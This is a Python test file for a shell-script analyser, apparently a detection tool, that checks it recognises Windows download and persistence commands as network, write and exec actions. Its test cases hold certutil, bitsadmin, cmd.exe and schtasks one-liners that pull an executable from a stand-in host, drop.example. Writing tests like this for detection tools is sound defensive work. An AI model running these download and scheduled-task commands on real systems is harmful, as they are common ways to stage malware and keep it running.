"""Programs of Windows, where a shell that is none of its own starts them."""

from __future__ import annotations

import pytest

from pinfold.language.context import Context
from pinfold.language.shell import script as shell
from pinfold.model import Place

FAR = "https://drop.example/a"


def acts_of(source):
    return shell.acts(source, Context(place=lambda start, end: Place("x.sh", line=start, column=end)))


@pytest.mark.parametrize(
    ("source", "kind", "field", "value"),
    [
        (f"cmd.exe /c 'curl {FAR}'", "connect", "DestinationHostname", "drop.example"),
        (f"certutil -urlcache -f {FAR} a.exe", "write", "Origin", FAR),
        ("certutil -decode a.txt a.exe", "write", "Origin", "a.txt"),
        (f"bitsadmin /transfer j /download {FAR} a.exe", "connect", "Url", FAR),
        (f"schtasks.exe /create /tr 'curl {FAR}' /f", "exec", "ParentImage", "schtasks.exe"),
    ],
)
def test_unmistakable_programs_are_understood_everywhere(source, kind, field, value):
    assert any(act.kind == kind and act.fields.get(field) == value for act in acts_of(source))


@pytest.mark.parametrize("source", ["start curl a.example", "type ./curl", "cmd /c 'curl a.example'", "copy a b"])
def test_words_that_mean_something_else_elsewhere_are_left_alone(source):
    assert [act.kind for act in acts_of(source)] == ["exec"]
